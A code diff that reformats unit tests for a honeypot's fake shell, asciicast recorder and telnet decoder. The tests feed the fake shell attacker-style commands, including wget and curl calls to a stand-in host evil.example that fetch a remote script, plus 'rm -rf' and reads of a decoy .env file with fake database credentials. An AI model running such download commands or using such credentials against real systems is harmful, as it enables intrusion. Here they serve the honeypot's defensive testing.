@@ -1,6 +1,13 @@
 import { describe, expect, it } from "@effect/vitest"
 import fc from "fast-check"
-import { MAX_OUTPUT, Recorder, Shell, type ShellPersona, Terminal, tokenize } from "../../src/honeypots/shell/index.js"
+import {
+  MAX_OUTPUT,
+  Recorder,
+  Shell,
+  type ShellPersona,
+  Terminal,
+  tokenize
+} from "../../src/honeypots/shell/index.js"
 import { TelnetDecoder } from "../../src/honeypots/telnet/Protocol.js"
 
 const persona: ShellPersona = {
@@ -28,7 +35,9 @@ describe("fake shell", () => {
 
   it("serves the lived-in files", () => {
     const s = sh()
-    expect(s.run("cat /root/projects/.env").output).toBe("DB_HOST=10.0.0.5\nDB_USER=admin\nDB_PASS=changeme123\nDB_NAME=prod_db\n")
+    expect(s.run("cat /root/projects/.env").output).toBe(
+      "DB_HOST=10.0.0.5\nDB_USER=admin\nDB_PASS=changeme123\nDB_NAME=prod_db\n"
+    )
     expect(s.run("cat /etc/hostname").output).toBe("web-01\n")
     expect(s.run("cat /etc/os-release").output).toContain('PRETTY_NAME="Ubuntu 22.04.3 LTS"')
     expect(s.run("cat /proc/version").output).toContain("Linux version 5.15.0-88-generic")
@@ -42,7 +51,9 @@ describe("fake shell", () => {
     const s = sh()
     expect(s.run("whoami").output).toBe("root\n")
     expect(s.run("id").output).toBe("uid=0(root) gid=0(root) groups=0(root)\n")
-    expect(s.run("uname -a").output).toBe("Linux web-01 5.15.0-88-generic #98-Ubuntu SMP Mon Oct 2 15:18:56 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n")
+    expect(s.run("uname -a").output).toBe(
+      "Linux web-01 5.15.0-88-generic #98-Ubuntu SMP Mon Oct 2 15:18:56 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n"
+    )
     expect(s.run("uptime").output).toContain("up 3 days, 4:07")
     expect(s.run("ip a").output).toContain("inet 10.0.0.23/24")
     expect(s.run("ifconfig").output).toContain("inet 10.0.0.23  netmask 255.255.255.0")
@@ -61,7 +72,9 @@ describe("fake shell", () => {
     expect(s.run("ls -a /tmp/.x").output).toBe(".  ..  a  b\n")
     expect(s.run("cat /tmp/.x/b").output).toBe("hi\n")
     expect(s.run("rm /tmp/.x").output).toBe("rm: cannot remove '/tmp/.x': Is a directory\n")
-    expect(s.run("rm -rf /tmp/.x; ls /tmp/.x").output).toBe("ls: cannot access '/tmp/.x': No such file or directory\n")
+    expect(s.run("rm -rf /tmp/.x; ls /tmp/.x").output).toBe(
+      "ls: cannot access '/tmp/.x': No such file or directory\n"
+    )
     expect(sh().run("cat /tmp/.x/b").output).toContain("No such file")
   })
 
@@ -70,7 +83,9 @@ describe("fake shell", () => {
     expect(s.run("wget http://evil.example/x.sh").output).toContain(
       "Resolving evil.example (evil.example)... failed: Temporary failure in name resolution."
     )
-    expect(s.run("curl -s https://evil.example:8080/a").output).toBe("curl: (6) Could not resolve host: evil.example\n")
+    expect(s.run("curl -s https://evil.example:8080/a").output).toBe(
+      "curl: (6) Could not resolve host: evil.example\n"
+    )
     expect(s.run("foo --bar").output).toBe("bash: foo: command not found\n")
   })
 
@@ -109,8 +124,40 @@ describe("fake shell", () => {
   })
 
   it("property: never throws, output bounded, on arbitrary lines", () => {
-    const words = fc.constantFrom("ls", "cat", "cd", "echo", "grep", "head", "wc", "rm", "mkdir", "touch", "sudo", "wget", "|", ";", "&&", "||", ">", ">>", "'", '"', "$", "${", "/", "..", "-la", "~", "\\", "#")
-    const line = fc.oneof(fc.string({ unit: "binary", maxLength: 300 }), fc.array(words, { maxLength: 40 }).map((w) => w.join(" ")))
+    const words = fc.constantFrom(
+      "ls",
+      "cat",
+      "cd",
+      "echo",
+      "grep",
+      "head",
+      "wc",
+      "rm",
+      "mkdir",
+      "touch",
+      "sudo",
+      "wget",
+      "|",
+      ";",
+      "&&",
+      "||",
+      ">",
+      ">>",
+      "'",
+      '"',
+      "$",
+      "${",
+      "/",
+      "..",
+      "-la",
+      "~",
+      "\\",
+      "#"
+    )
+    const line = fc.oneof(
+      fc.string({ unit: "binary", maxLength: 300 }),
+      fc.array(words, { maxLength: 40 }).map((w) => w.join(" "))
+    )
     fc.assert(
       fc.property(fc.array(line, { maxLength: 8 }), (lines) => {
         const s = sh()
@@ -157,7 +204,10 @@ describe("asciicast recorder", () => {
     for (let i = 0; i < 200; i++) r.record("o", "x".repeat(50))
     expect(r.truncated).toBe(true)
     expect(r.bytes).toBe(200 * 50)
-    const parts = r.text().split("\n").filter((l) => l !== "")
+    const parts = r
+      .text()
+      .split("\n")
+      .filter((l) => l !== "")
     expect(r.text().length).toBeLessThanOrEqual(4096)
     expect(parts.filter((p) => p.includes("recording truncated"))).toHaveLength(1)
     expect(JSON.parse(parts[0]!)).toMatchObject({ version: 2, width: 80, height: 24 })
